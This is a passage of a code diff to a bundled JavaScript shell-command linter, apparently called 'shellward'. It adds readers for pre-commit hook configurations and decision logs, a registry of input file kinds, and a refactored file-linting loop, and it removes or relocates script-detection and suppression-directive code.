+      let k = i3 + 1;
+      for (; ; ) {
+        if (k >= t.length) return void 0;
+        const d = t[k];
+        if (d === '"') break;
+        if (d === "\\" && k + 1 < t.length && '"\\$`\n'.includes(t[k + 1])) {
+          if (t[k + 1] !== "\n") cur.pushFrom(s, k + 1);
+          k += 2;
+          continue;
+        }
+        cur.pushFrom(s, k);
+        k++;
+      }
+      i3 = k + 1;
+      continue;
+    }
+    if (c3 === "\\") {
+      if (i3 + 1 < t.length) {
+        if (t[i3 + 1] !== "\n") cur.pushFrom(s, i3 + 1);
+        i3 += 2;
+      } else i3++;
+      continue;
+    }
+    cur.pushFrom(s, i3);
+    i3++;
+  }
+  if (cur) out2.push(cur);
+  return out2;
+}
+function readHook(doc, hook, text, ctx, units, notes) {
+  if (!hook) return;
+  const language = stringOf(doc, hook, "language");
+  if (language !== "system" && language !== "script") return;
+  const entryNode = asScalar(doc, pairOf(hook, "entry")?.value);
+  const entry = entryNode ? mappedScalar(entryNode, text) : void 0;
+  if (!entry || entry.text.trim() === "") return;
+  const argv = shlexSplit(entry);
+  const at = entryNode?.range?.[0] ?? 0;
+  if (!argv) {
+    notes.push({ ruleId: NOTE_RULE_IDS.parseError, message: "This `entry` has an unclosed quote: pre-commit cannot split it into words, so it was not checked.", span: { start: at, end: at + 1 } });
+    return;
+  }
+  for (const a2 of asSeq(doc, valueOf2(doc, hook, "args"))?.items ?? []) {
+    const s = asScalar(doc, a2);
+    const m = s ? mappedScalar(s, text) : void 0;
+    if (m) argv.push(m);
+  }
+  const sh = argvToShell(argv, "sh");
+  if (!sh || sh.kind === "edit") return;
+  if (sh.kind === "foreign") {
+    notes.push({ ruleId: NOTE_RULE_IDS.shellNotAnalysed, message: `This hook runs \`${sh.shell}\`, not a POSIX shell: it was not analysed.`, span: { start: at, end: at + 1 }, data: { shell: sh.shell } });
+    return;
+  }
+  const unit = mappedUnit(ctx.file, text, sh.text, sh.dialect, ctx.profile, "command", at);
+  units.push({ unit: sh.directExec ? { ...unit, context: { directExec: true } } : unit, kind: "hook-entry" });
+}
+function extractPreCommit(text, ctx) {
+  const parsed = parseYaml(text, "pre-commit configuration");
+  if (parsed.error) return { units: [], notes: [parsed.error] };
+  const { doc } = parsed;
+  const units = [];
+  const notes = [];
+  const root = doc.contents;
+  if ((0, import_yaml3.isSeq)(root)) {
+    for (const h2 of root.items) readHook(doc, asMap(doc, h2), text, ctx, units, notes);
+    return { units, notes };
+  }
+  for (const repo of asSeq(doc, valueOf2(doc, asMap(doc, root), "repos"))?.items ?? []) {
+    for (const h2 of asSeq(doc, valueOf2(doc, asMap(doc, repo), "hooks"))?.items ?? []) readHook(doc, asMap(doc, h2), text, ctx, units, notes);
+  }
+  return { units, notes };
+}
+var PRE_COMMIT = {
+  id: "pre-commit",
+  title: "pre-commit configuration",
+  read: "text",
+  profileKey: "script",
+  matchesName: (path6) => /^\.pre-commit-(?:config|hooks)\.ya?ml$/.test(baseName(path6)),
+  extract: extractPreCommit
+};
+
 // src/sources/makefile.ts
 var MAKEFILE_NAMES = /* @__PURE__ */ new Set(["Makefile", "makefile", "GNUmakefile"]);
 function isMakefilePath(path6, extraNames) {
@@ -57018,7 +66829,7 @@ function isMakefilePath(path6, extraNames) {
   const lower = base.toLowerCase();
   return lower.endsWith(".mk") && lower.length > 3 || lower.endsWith(".make") && lower.length > 5;
 }
-function physicalLines(text) {
+function physicalLines2(text) {
   const out2 = [];
   let start2 = 0;
   while (start2 <= text.length) {
@@ -57132,7 +66943,7 @@ function bareName(name2) {
   return words.join(" ");
 }
 function scan(text) {
-  const lines = physicalLines(text);
+  const lines = physicalLines2(text);
   const items = [];
   const defs = /* @__PURE__ */ new Map();
   const define = (name2, op, value, inDefine = false) => {
@@ -57378,215 +67189,6 @@ function extractMakefile(file, text, options = {}) {
   return { units, dialect, oneShell };
 }
 
-// src/sources/script.ts
-var EXTENSIONS = {
-  ".sh": "sh",
-  ".bash": "bash",
-  ".bats": "bash",
-  ".ksh": "ksh",
-  ".zsh": "zsh"
-};
-var SHELLS3 = {
-  sh: "sh",
-  bash: "bash",
-  dash: "dash",
-  ksh: "ksh",
-  mksh: "ksh",
-  ksh93: "ksh",
-  zsh: "zsh",
-  ash: "sh",
-  busybox: "sh"
-};
-function dialectFromShebang(firstLine) {
-  if (!firstLine.startsWith("#!")) return void 0;
-  const words = firstLine.slice(2).trim().split(/[ \t]+/);
-  let prog = words[0] ?? "";
-  let i3 = 1;
-  if (prog.endsWith("/env") || prog === "env") {
-    while (i3 < words.length && (words[i3].startsWith("-") || /^[A-Za-z_][A-Za-z0-9_]*=/.test(words[i3]))) i3++;
-    prog = words[i3] ?? "";
-  }
-  const base = prog.slice(prog.lastIndexOf("/") + 1);
-  return SHELLS3[base];
-}
-function dialectFromPath(path6) {
-  const dot = path6.lastIndexOf(".");
-  const slash = Math.max(path6.lastIndexOf("/"), path6.lastIndexOf("\\"));
-  if (dot <= slash + 1) return void 0;
-  return EXTENSIONS[path6.slice(dot).toLowerCase()];
-}
-function detectShellScript(path6, head) {
-  const nl = head.indexOf("\n");
-  const first = (nl === -1 ? head : head.slice(0, nl)).replace(/^\uFEFF/, "").replace(/\r$/, "");
-  return dialectFromShebang(first) ?? dialectFromPath(path6);
-}
-var utf8 = new TextDecoder("utf-8", { fatal: true, ignoreBOM: false });
-var lossyUtf8 = new TextDecoder("utf-8", { fatal: false, ignoreBOM: false });
-function decodeText(bytes) {
-  const nul = bytes.subarray(0, 8192).indexOf(0);
-  if (nul !== -1) return { ok: false, reason: "binary file (contains NUL bytes)", offset: nul };
-  try {
-    return { ok: true, text: utf8.decode(bytes) };
-  } catch {
-    return { ok: true, text: lossyUtf8.decode(bytes), invalidAt: firstInvalidUtf8(bytes) };
-  }
-}
-function firstInvalidUtf8(b) {
-  let i3 = 0;
-  while (i3 < b.length) {
-    const c3 = b[i3];
-    const need = c3 < 128 ? 0 : c3 >= 194 && c3 <= 223 ? 1 : c3 >= 224 && c3 <= 239 ? 2 : c3 >= 240 && c3 <= 244 ? 3 : -1;
-    if (need < 0) return i3;
-    for (let k = 1; k <= need; k++) {
-      const n2 = b[i3 + k];
-      if (n2 === void 0 || (n2 & 192) !== 128) return i3;
-    }
-    i3 += need + 1;
-  }
-  return b.length;
-}
-function scriptUnit(file, text, dialect, profile = "script") {
-  return {
-    text,
-    hostText: text,
-    dialect,
-    granularity: "script",
-    profile,
-    origin: { file, kind: "script" },
-    sourceMap: new IdentityMap()
-  };
-}
-
-// src/sources/transcript/json-text.ts
-function skipWs2(s, i3) {
-  while (i3 < s.length) {
-    const c3 = s.charCodeAt(i3);
-    if (c3 !== 32 && c3 !== 9 && c3 !== 10 && c3 !== 13) break;
-    i3++;
-  }
-  return i3;
-}
-function skipString(s, i3) {
-  let k = i3 + 1;
-  for (; ; ) {
-    const q = s.indexOf('"', k);
-    if (q === -1) return -1;
-    let b = q - 1;
-    while (b > i3 && s.charCodeAt(b) === 92) b--;
-    if ((q - 1 - b) % 2 === 0) return q + 1;
-    k = q + 1;
-  }
-}
-function skipValue(s, i3) {
-  i3 = skipWs2(s, i3);
-  const c3 = s[i3];
-  if (c3 === '"') return skipString(s, i3);
-  if (c3 === "{" || c3 === "[") {
-    let depth = 0;
-    for (let k2 = i3; k2 < s.length; k2++) {
-      const d = s[k2];
-      if (d === '"') {
-        k2 = skipString(s, k2) - 1;
-        if (k2 < 0) return -1;
-      } else if (d === "{" || d === "[") depth++;
-      else if (d === "}" || d === "]") {
-        depth--;
-        if (depth === 0) return k2 + 1;
-      }
-    }
-    return -1;
-  }
-  let k = i3;
-  while (k < s.length && !",]} 	\r\n".includes(s[k])) k++;
-  return k > i3 ? k : -1;
-}
-function locateValue(s, path6) {
-  let i3 = skipWs2(s, 0);
-  for (const step of path6) {
-    const open2 = s[i3];
-    if (typeof step === "string") {
-      if (open2 !== "{") return void 0;
-      let k = skipWs2(s, i3 + 1);
-      let found;
-      while (k < s.length && s[k] !== "}") {
-        if (s[k] !== '"') return void 0;
-        const keyEnd = skipString(s, k);
-        if (keyEnd === -1) return void 0;
-        let key;
-        try {
-          key = JSON.parse(s.slice(k, keyEnd));
-        } catch {
-          return void 0;
-        }
-        k = skipWs2(s, keyEnd);
-        if (s[k] !== ":") return void 0;
-        const vStart = skipWs2(s, k + 1);
-        if (key === step) found = vStart;
-        const vEnd = skipValue(s, vStart);
-        if (vEnd === -1) return void 0;
-        k = skipWs2(s, vEnd);
-        if (s[k] === ",") k = skipWs2(s, k + 1);
-      }
-      if (found === void 0) return void 0;
-      i3 = found;
-    } else {
-      if (open2 !== "[") return void 0;
-      let k = skipWs2(s, i3 + 1);
-      let n2 = 0;
-      let found;
-      while (k < s.length && s[k] !== "]") {
-        if (n2 === step) {
-          found = k;
-          break;
-        }
-        const vEnd = skipValue(s, k);
-        if (vEnd === -1) return void 0;
-        k = skipWs2(s, vEnd);
-        if (s[k] === ",") k = skipWs2(s, k + 1);
-        n2++;
-      }
-      if (found === void 0) return void 0;
-      i3 = found;
-    }
-  }
-  return i3;
-}
-var SIMPLE_ESCAPES = { '"': '"', "\\": "\\", "/": "/", b: "\b", f: "\f", n: "\n", r: "\r", t: "	" };
-function decodeStringAt(src, quote) {
-  const text = typeof src === "string" ? src : src.text;
-  const hostOf = (i3) => typeof src === "string" ? i3 : src.hostAt(i3) ?? 0;
-  if (text[quote] !== '"') return void 0;
-  const out2 = new MappedText();
-  for (let i3 = quote + 1; i3 < text.length; i3++) {
-    const c3 = text[i3];
-    if (c3 === '"') return { value: out2, end: i3 + 1 };
-    if (c3 !== "\\") {
-      out2.push(c3, hostOf(i3));
-      continue;
-    }
-    const e = text[i3 + 1];
-    if (e === void 0) return void 0;
-    if (e === "u") {
-      const hex = text.slice(i3 + 2, i3 + 6);
-      if (!/^[0-9a-fA-F]{4}$/.test(hex)) return void 0;
-      out2.push(String.fromCharCode(parseInt(hex, 16)), hostOf(i3));
-      i3 += 5;
-      continue;
-    }
-    const simple = SIMPLE_ESCAPES[e];
-    if (simple === void 0) return void 0;
-    out2.push(simple, hostOf(i3));
-    i3++;
-  }
-  return void 0;
-}
-function stringAt(src, path6) {
-  const text = typeof src === "string" ? src : src.text;
-  const at = locateValue(text, path6);
-  if (at === void 0) return void 0;
-  return decodeStringAt(src, at)?.value;
-}
-
 // src/sources/transcript/types.ts
 function makeCall(d) {
   const first = d.command.hostAt(0) ?? 0;
@@ -57743,63 +67345,6 @@ var ClaudeCodeReader = class {
 
 // src/sources/transcript/codex.ts
 import { posix as posix6 } from "node:path";
-
-// src/sources/transcript/argv.ts
-var POSIX_SHELLS = { bash: "bash", sh: "sh", zsh: "zsh", dash: "dash", ksh: "ksh", ash: "sh", busybox: "sh" };
-function basename3(p) {
-  return p.slice(Math.max(p.lastIndexOf("/"), p.lastIndexOf("\\")) + 1).replace(/\.exe$/i, "").toLowerCase();
-}
-function dialectOfShell(program) {
-  return program === void 0 ? void 0 : POSIX_SHELLS[basename3(program)];
-}
-function isApplyPatchScript(script) {
-  return /^\s*(?:cd\s+\S+\s*&&\s*)?(?:apply_patch|applypatch)\b/.test(script);
-}
-var BARE = /^[A-Za-z0-9_@%+=:,./-]+$/;
-function quoteJoin(argv) {
-  const out2 = new MappedText();
-  argv.forEach((a2, n2) => {
-    const s = a2.text;
-    const first = a2.hostAt(0) ?? 0;
-    if (n2 > 0) out2.push(" ", first);
-    if (s !== "" && BARE.test(s)) {
-      for (let i3 = 0; i3 < a2.length; i3++) out2.pushFrom(a2, i3);
-      return;
-    }
-    out2.push("'", first);
-    for (let i3 = 0; i3 < a2.length; i3++) {
-      if (s[i3] === "'") {
-        const h2 = a2.hostAt(i3) ?? first;
-        for (const ch of "'\\''") out2.push(ch, h2);
-      } else out2.pushFrom(a2, i3);
-    }
-    out2.push("'", a2.hostAt(a2.length - 1) ?? first);
-  });
-  return out2;
-}
-function argvToShell(argv, defaultDialect = "bash") {
-  if (argv.length === 0) return void 0;
-  const prog = basename3(argv[0].text);
-  if (prog === "apply_patch" || prog === "applypatch") return { kind: "edit" };
-  const dialect = POSIX_SHELLS[prog];
-  if (dialect) {
-    let i3 = prog === "busybox" && argv[1]?.text === "sh" ? 2 : 1;
-    for (; i3 < argv.length; i3++) {
-      const f = argv[i3].text;
-      if (!f.startsWith("-") || f === "--") break;
-      if (/^-[A-Za-z]*c[A-Za-z]*$/.test(f)) {
-        const script = argv[i3 + 1];
-        if (!script) break;
-        if (isApplyPatchScript(script.text)) return { kind: "edit" };
-        return { kind: "script", text: script, dialect, directExec: false };
-      }
-    }
-  }
-  if (prog === "pwsh" || prog === "powershell" || prog === "cmd") return { kind: "foreign", shell: prog };
-  return { kind: "script", text: quoteJoin(argv), dialect: defaultDialect, directExec: true };
-}
-
-// src/sources/transcript/codex.ts
 var ENVELOPE_TYPES = /* @__PURE__ */ new Set(["session_meta", "turn_context", "response_item", "event_msg", "compacted"]);
 var SHELL_TOOLS = /* @__PURE__ */ new Set(["shell", "container.exec", "shell_command", "exec_command"]);
 function codexOutcome(output) {
@@ -58176,6 +67721,61 @@ function readGeminiJson(file, text, seen = /* @__PURE__ */ new Set(), options = 
   return { calls: callsOf(messages, meta, file, seen, options), errors: [] };
 }
 
+// src/sources/transcript/shellward-decisions.ts
+var DECISION_LOG_TYPE = "shellward-decision";
+function isDecisionRecord(obj) {
+  return obj.type === DECISION_LOG_TYPE && typeof obj.version === "number";
+}
+var ShellwardDecisionReader = class {
+  constructor(file, seen = /* @__PURE__ */ new Set()) {
+    this.file = file;
+    this.seen = seen;
+  }
+  file;
+  seen;
+  line(text, lineNo) {
+    const { out: out2, record: e } = startLine(text, lineNo);
+    if (!e || !isDecisionRecord(e) || e.version !== 1) return out2;
+    const command = str(e.command);
+    if (command === void 0) return out2;
+    const agent = str(e.agent);
+    const id = str(e.toolUseId);
+    if (id !== void 0) {
+      const key = `${agent ?? "unknown"}:${id}`;
+      if (this.seen.has(key)) return out2;
+      this.seen.add(key);
+    }
+    const mapped = stringAt(text, ["command"]);
+    const cwd = str(e.cwd);
+    const session = str(e.sessionId);
+    const timestamp = str(e.timestamp);
+    const mode = str(e.permissionMode);
+    out2.calls.push(
+      makeCall({
+        command: mapped && mapped.text === command ? mapped : unmapped(command, 0),
+        hostText: text,
+        line: lineNo,
+        lineShift: lineNo - 1,
+        dialect: "bash",
+        file: this.file,
+        context: {
+          ...agent !== void 0 ? { agent } : {},
+          ...id !== void 0 ? { toolUseId: id } : {},
+          ...session !== void 0 ? { sessionId: session } : {},
+          ...timestamp !== void 0 ? { timestamp } : {},
+          ...cwd !== void 0 ? { cwd } : {},
+          ...mode !== void 0 ? { permissionMode: mode } : {},
+          outcome: e.answered === "deny" ? "denied" : "unknown"
+        }
+      })
+    );
+    return out2;
+  }
+  finish() {
+    return nothing();
+  }
+};
+
 // src/sources/transcript/detect.ts
 var CLAUDE_TYPES = /* @__PURE__ */ new Set(["user", "assistant", "summary", "system", "progress", "file-history-snapshot", "queue-operation", "attachment", "custom-title"]);
 var CODEX_TYPES = /* @__PURE__ */ new Set(["session_meta", "turn_context", "response_item", "event_msg", "compacted"]);
@@ -58206,6 +67806,7 @@ function detectTranscript(head) {
 }
 var DETECT_LINES = 20;
 function fromObject(obj) {
+  if (isDecisionRecord(obj)) return "shellward-decisions";
   if (typeof obj.type === "string" && CODEX_TYPES.has(obj.type) && "payload" in obj) return "codex";
   if (obj.type === void 0 && typeof obj.id === "string" && "timestamp" in obj && ("instructions" in obj || "git" in obj)) return "codex";
   if (obj.record_type === "state") return "codex";
@@ -58236,6 +67837,8 @@ function createReader(format2, file, seen, path6) {
       return new CodexReader(file, seen);
     case "gemini-jsonl":
       return new GeminiJsonlReader(file, seen, path6 !== void 0 ? { path: path6 } : {});
+    case "shellward-decisions":
+      return new ShellwardDecisionReader(file, seen);
   }
 }
 async function readTranscriptFile(path6, file, format2, seen, sink) {
@@ -58263,6 +67866,79 @@ async function readTranscriptFile(path6, file, format2, seen, sink) {
   }
   deliver(reader.finish());
   return { bytes: stream.bytesRead, lines: lineNo };
+}
+
+// src/sources/registry.ts
+var SHELL_SCRIPT = {
+  id: "shell-script",
+  title: "shell script",
+  read: "text",
+  profileKey: "script",
+  matchesName: (path6) => dialectFromPath(path6) !== void 0,
+  sniff: (path6, head) => detectShellScript(path6, head) !== void 0,
+  extract: (text, ctx) => {
+    const dialect = detectShellScript(ctx.file, text.slice(0, 512)) ?? "bash";
+    return { units: [{ unit: scriptUnit(ctx.file, text, dialect, ctx.profile), kind: "statement" }], notes: [] };
+  },
+  directiveComments: (text, parser) => {
+    const tree = parseBash(parser, text);
+    if (!tree) return [];
+    try {
+      return buildViews(tree, text).comments;
+    } finally {
+      tree.delete();
+    }
+  }
+};
+var MAKEFILE = {
+  id: "makefile",
+  title: "Makefile",
+  read: "text",
+  profileKey: "makefile",
+  matchesName: (path6, options) => isMakefilePath(path6, options.makefileName),
+  extract: (text, ctx) => ({ units: extractMakefile(ctx.file, text, { profile: ctx.profile }).units.map((u2) => ({ unit: u2.unit, kind: u2.kind })), notes: [] }),
+  directiveComments: (text) => makefileCommentSpans(text)
+};
+var TRANSCRIPT = {
+  id: "transcript",
+  title: "agent transcript",
+  read: "stream",
+  profileKey: "transcript",
+  matchesName: () => false,
+  sniff: (path6, head) => mayBeTranscript(path6) && detectTranscript(head) !== void 0
+};
+var INPUT_KINDS = [
+  GITHUB_WORKFLOW,
+  GITHUB_ACTION,
+  GITLAB_CI,
+  PRE_COMMIT,
+  DEVCONTAINER,
+  CLAUDE_SETTINGS,
+  PACKAGE_JSON,
+  DOCKERFILE,
+  MAKEFILE,
+  SHELL_SCRIPT,
+  TRANSCRIPT
+];
+function kindByName(path6, options = {}) {
+  return INPUT_KINDS.find((k) => k.matchesName(path6, options));
+}
+var SNIFF_CHARS = 64 * 1024;
+function identifyKind(path6, head, options = {}) {
+  const named = kindByName(path6, options);
+  if (named) return named;
+  if (head !== void 0) {
+    const text = head.replace(/^\uFEFF/, "");
+    for (const k of INPUT_KINDS) if (k.sniff?.(path6, k.read === "stream" ? text : text.slice(0, 512))) return k;
+  }
+  if (options.explicit && !baseName(path6).slice(1).includes(".")) return SHELL_SCRIPT;
+  return void 0;
+}
+function needsSniffing(path6) {
+  return { bytes: mayBeTranscript(path6) ? SNIFF_CHARS : 512 };
+}
+function kindTitles() {
+  return INPUT_KINDS.map((k) => k.title).join(", ");
 }
 
 // src/transcript-runner.ts
@@ -58475,90 +68151,6 @@ function statementUnits(parser, unit) {
   }
 }
 
-// src/suppress.ts
-var DIRECTIVE_MARKER = "shellward-disable";
-var DIRECTIVE = /^#\s*(shellward-disable[A-Za-z-]*)(?=\s|$)(.*)$/s;
-function parseDirectives(text, comments) {
-  const out2 = [];
-  let index;
-  for (const span of comments) {
-    const raw = text.slice(span.start, span.end).replace(/\r$/, "");
-    const m = DIRECTIVE.exec(raw);
-    if (!m) continue;
-    const name2 = m[1];
-    const rest = m[2];
-    const kind = name2 === "shellward-disable-next-line" ? "next-line" : name2 === "shellward-disable-file" ? "file" : void 0;
-    const sep4 = /(?:^|\s)--(?:\s|$)/.exec(rest);
-    const idsText = sep4 ? rest.slice(0, sep4.index) : rest;
-    const reason = sep4 ? rest.slice(sep4.index + sep4[0].length).trim() : void 0;
-    const ruleIds = idsText.split(/[\s,]+/).filter((s) => s !== "");
-    index ??= new LineIndex(text);
-    const start2 = index.position(span.start);
-    const end = index.position(span.start + raw.length);
-    out2.push({ kind, name: name2, ruleIds, reason, line: start2.line, range: { start: start2, end } });
-  }
-  return out2;
-}
-function makefileCommentSpans(text) {
-  const out2 = [];
-  let start2 = 0;
-  while (start2 <= text.length) {
-    let end = text.indexOf("\n", start2);
-    if (end === -1) end = text.length;
-    const line = text.slice(start2, end);
-    const hash = line.search(/\S/);
-    if (hash !== -1 && line[hash] === "#") out2.push({ start: start2 + hash, end });
-    start2 = end + 1;
-  }
-  return out2;
-}
-var UNSUPPRESSIBLE = /* @__PURE__ */ new Set([SUPPRESSION_INVALID.id, SUPPRESSION_UNUSED.id]);
-function applySuppressions(file, diagnostics, directives, rules) {
-  if (directives.length === 0) return [...diagnostics];
-  const own = [];
-  const report2 = (ruleId, range2, message4) => {
-    const severity = rules.severity(ruleId);
-    if (severity) own.push({ ruleId, severity, message: message4, file, range: range2 });
-  };
-  const active = [];
-  for (const d of directives) {
-    if (d.kind === void 0) {
-      report2(SUPPRESSION_INVALID.id, d.range, `Unknown directive \`${d.name}\`; use \`shellward-disable-next-line\` or \`shellward-disable-file\`.`);
-      continue;
-    }
-    if (d.ruleIds.length === 0) {
-      report2(SUPPRESSION_INVALID.id, d.range, `\`${d.name}\` names no rule id; write \`# ${d.name} <rule-id> -- <reason>\`.`);
-      continue;
-    }
-    if (!d.reason) {
-      report2(SUPPRESSION_INVALID.id, d.range, `\`${d.name}\` gives no reason, so it suppresses nothing; add \` -- <why this is safe>\`.`);
-      continue;
-    }
-    for (const id of d.ruleIds) {
-      if (UNSUPPRESSIBLE.has(id)) report2(SUPPRESSION_INVALID.id, d.range, `\`${id}\` cannot be suppressed.`);
-      else if (!rules.known(id)) report2(SUPPRESSION_INVALID.id, d.range, `Unknown rule id \`${id}\` in \`${d.name}\`.`);
-      else active.push({ d, id, used: false });
-    }
-  }
-  const kept = diagnostics.filter((diag) => {
-    let suppressed = false;
-    for (const a2 of active) {
-      if (a2.id !== diag.ruleId) continue;
-      if (a2.d.kind === "file" || diag.range.start.line === a2.d.line + 1) {
-        a2.used = true;
-        suppressed = true;
-      }
-    }
-    return !suppressed;
-  });
-  for (const a2 of active) {
-    if (a2.used || rules.severity(a2.id) === void 0) continue;
-    const where = a2.d.kind === "file" ? "in this file" : `on line ${a2.d.line + 1}`;
-    report2(SUPPRESSION_UNUSED.id, a2.d.range, `\`${a2.d.name}\` for \`${a2.id}\` suppresses nothing: no \`${a2.id}\` finding ${where}; remove it.`);
-  }
-  return [...kept, ...own];
-}
-
 // src/runner.ts
 import { dirname as dirname4, resolve as resolve6 } from "node:path";
 async function readHead(path6, size = 512) {
@@ -58575,7 +68167,6 @@ async function readHead(path6, size = 512) {
   }
 }
 var MAX_FILE_BYTES = 16 * 1024 * 1024;
-var TRANSCRIPT_HEAD_BYTES = 64 * 1024;
 function skipped(file, reason, line = 1, column = 1) {
   return {
     ruleId: FILE_SKIPPED.id,
@@ -58602,110 +68193,101 @@ async function lintFiles(linter, candidates, options) {
   let filesAnalysed = 0;
   let bytes = 0;
   const profile = options.profile ?? "script";
+  const profiles = {
+    script: profile,
+    makefile: options.makefileProfile ?? profile,
+    transcript: options.transcriptProfile ?? "agent"
+  };
   const seen = /* @__PURE__ */ new Set();
-  const parser = options.verdicts ? await initParser() : void 0;
+  const parser = await initParser();
   const names = options.makefileNames ?? [];
   const extraNames = names.length > 0 ? (0, import_picomatch3.default)([...names], { dot: true }) : void 0;
-  const isMakefile = (path6) => isMakefilePath(path6, extraNames);
+  const kindOptions = extraNames ? { makefileName: extraNames } : {};
   const pending = [];
   const startLoad = (i3) => {
     const c3 = candidates[i3];
-    if (c3) pending[i3] = loadCandidate(c3, isMakefile(c3.path));
+    if (c3) pending[i3] = loadCandidate(c3, kindOptions);
   };
   for (let i3 = 0; i3 < PREFETCH && i3 < candidates.length; i3++) startLoad(i3);
+  const push = (result, size) => {
+    filesAnalysed++;
+    bytes += size;
+    results.push(result);
+    options.onFile?.(result, size);
+  };
   for (let i3 = 0; i3 < candidates.length; i3++) {
     const c3 = candidates[i3];
     const loaded = await pending[i3];
     delete pending[i3];
     startLoad(i3 + PREFETCH);
     const file = displayPath(c3.path, options.cwd);
-    const makefile = isMakefile(c3.path);
-    if (loaded.kind === "not-shell") continue;
+    if (loaded.kind === "none") {
+      if (c3.explicit) push({ file, diagnostics: [skipped(file, loaded.reason)] }, 0);
+      continue;
+    }
     if (loaded.kind === "error") {
-      filesAnalysed++;
-      const result2 = { file, diagnostics: [skipped(file, `cannot be read (${loaded.code})`)] };
-      results.push(result2);
-      options.onFile?.(result2, 0);
+      push({ file, diagnostics: [skipped(file, `cannot be read (${loaded.code})`)] }, 0);
       continue;
     }
-    if (!makefile && c3.content === void 0 && (c3.explicit || mayBeTranscript(c3.path))) {
-      const format2 = detectTranscript(new TextDecoder().decode(loaded.head));
-      if (format2) {
-        filesAnalysed++;
-        let result2;
-        let size = 0;
-        const verdicts = [];
-        const onCall = options.verdicts ? (call) => {
-          verdicts.push(unitVerdict(linter, call.unit, "tool-call", { lineShift: call.lineShift }));
-        } : void 0;
-        try {
-          const r = await lintTranscriptFile(linter, c3.path, file, format2, seen, onCall, options.transcriptProfile);
-          size = r.bytes;
-          verdicts.sort((a2, b) => a2.range.start.line - b.range.start.line || a2.range.start.column - b.range.start.column);
-          result2 = { file, diagnostics: r.diagnostics, ...options.verdicts ? { verdicts } : {} };
-        } catch (err2) {
-          const code = err2.code ?? "error";
-          result2 = { file, diagnostics: [skipped(file, `cannot be read (${code})`)] };
-        }
-        bytes += size;
-        results.push(result2);
-        options.onFile?.(result2, size);
-        continue;
-      }
-    }
-    const isShell = detectShellScript(c3.path, new TextDecoder().decode(loaded.head.subarray(0, 512))) !== void 0;
-    if (!c3.explicit && !makefile && !isShell) continue;
-    if (c3.explicit && !makefile && !isShell && mayBeTranscript(c3.path)) {
-      filesAnalysed++;
-      const result2 = { file, diagnostics: [skipped(file, "not a transcript format shellward reads (Claude Code, Codex CLI, Gemini CLI JSON/JSONL)")] };
-      results.push(result2);
-      options.onFile?.(result2, 0);
+    const kind = loaded.input;
+    const kindProfile = profiles[kind.profileKey];
+    if (kind.read === "stream") {
+      push(...await lintStream(linter, c3, file, seen, kindProfile, options.verdicts === true));
       continue;
     }
-    filesAnalysed++;
     if (loaded.data === void 0) {
-      const result2 = { file, diagnostics: [skipped(file, `larger than ${MAX_FILE_BYTES / 1024 / 1024} MiB (${loaded.size} bytes)`)] };
-      results.push(result2);
-      options.onFile?.(result2, 0);
+      push({ file, diagnostics: [skipped(file, `larger than ${MAX_FILE_BYTES / 1024 / 1024} MiB (${loaded.size} bytes)`)] }, 0);
       continue;
     }
     const data = loaded.data;
-    bytes += data.length;
     const decoded = decodeText(data);
-    let result;
     if (!decoded.ok) {
       const pos = bytePosition(data, decoded.offset);
-      result = { file, diagnostics: [skipped(file, `${decoded.reason} at byte ${decoded.offset}`, pos.line, pos.column)] };
-    } else {
-      const text = decoded.text.startsWith("\uFEFF") ? decoded.text.slice(1) : decoded.text;
-      if (makefile) {
-        const { units: raw } = extractMakefile(file, text, { profile: options.makefileProfile ?? profile });
-        const units = raw.map((u2) => ({ ...u2, unit: withProjectRoot(u2.unit, options.cwd) }));
-        const pending3 = [...encodingNote(linter, file, text, decoded.invalidAt, options.makefileProfile ?? profile), ...units.flatMap((u2) => linter.lintUnit(u2.unit))];
-        result = { file, diagnostics: finishFile(text, await withSuppressions(linter, file, text, pending3, profile, "makefile")) };
-        if (options.verdicts) {
-          const index = new LineIndex(text);
-          const defaultCwd = resolve6(dirname4(c3.path));
-          result = { ...result, verdicts: units.map((u2) => unitVerdict(linter, u2.unit, u2.kind, { index, defaultCwd })) };
-        }
-        results.push(result);
-        options.onFile?.(result, data.length);
-        continue;
-      }
-      const dialect = detectShellScript(c3.path, text.slice(0, 512)) ?? "bash";
-      const unit = withProjectRoot(scriptUnit(file, text, dialect, profile), options.cwd);
-      const pending2 = [...encodingNote(linter, file, text, decoded.invalidAt, profile), ...linter.lintUnit(unit)];
-      result = { file, diagnostics: finishFile(text, await withSuppressions(linter, file, text, pending2, profile, "script")) };
-      if (parser) {
-        const index = new LineIndex(text);
-        const defaultCwd = resolve6(dirname4(c3.path));
-        result = { ...result, verdicts: statementUnits(parser, unit).map((u2) => unitVerdict(linter, u2, "statement", { index, defaultCwd })) };
-      }
+      push({ file, diagnostics: [skipped(file, `${decoded.reason} at byte ${decoded.offset}`, pos.line, pos.column)] }, data.length);
+      continue;
     }
-    results.push(result);
-    options.onFile?.(result, data.length);
+    const text = decoded.text.startsWith("\uFEFF") ? decoded.text.slice(1) : decoded.text;
+    const extraction = kind.extract(text, { file, profile: kindProfile });
+    if (extraction.notThisKind !== void 0) {
+      if (c3.explicit) push({ file, diagnostics: [skipped(file, `${extraction.notThisKind}`)] }, 0);
+      continue;
+    }
+    const units = extraction.units.map((u2) => ({ ...u2, unit: withProjectRoot(u2.unit, options.cwd) }));
+    const index = new LineIndex(text);
+    const found = [...encodingNote(linter, file, text, decoded.invalidAt, kindProfile)];
+    for (const n2 of extraction.notes) {
+      const severity = linter.severityFor(n2.ruleId, { profile: kindProfile });
+      if (severity) found.push({ ruleId: n2.ruleId, severity, message: n2.message, file, range: { start: index.position(n2.span.start), end: index.position(Math.max(n2.span.end, n2.span.start + 1)) }, ...n2.data ? { data: n2.data } : {} });
+    }
+    for (const u2 of units) found.push(...linter.lintUnit(u2.unit));
+    let result = { file, diagnostics: finishFile(text, withSuppressions(linter, file, text, found, kindProfile, kind, parser)) };
+    if (options.verdicts) {
+      const defaultCwd = resolve6(dirname4(c3.path));
+      const verdicts = units.flatMap(
+        (u2) => (u2.unit.granularity === "script" ? statementUnits(parser, u2.unit) : [u2.unit]).map((s) => unitVerdict(linter, s, u2.kind, { index, defaultCwd }))
+      );
+      result = { ...result, verdicts };
+    }
+    push(result, data.length);
   }
   return { results, filesAnalysed, bytes };
+}
+async function lintStream(linter, c3, file, seen, profile, withVerdicts) {
+  if (c3.content !== void 0) return [{ file, diagnostics: [skipped(file, "an agent transcript; transcripts are read from files, not from staged content or standard input")] }, 0];
+  const format2 = detectTranscript(new TextDecoder().decode(await readHead(c3.path, SNIFF_CHARS) ?? new Uint8Array()));
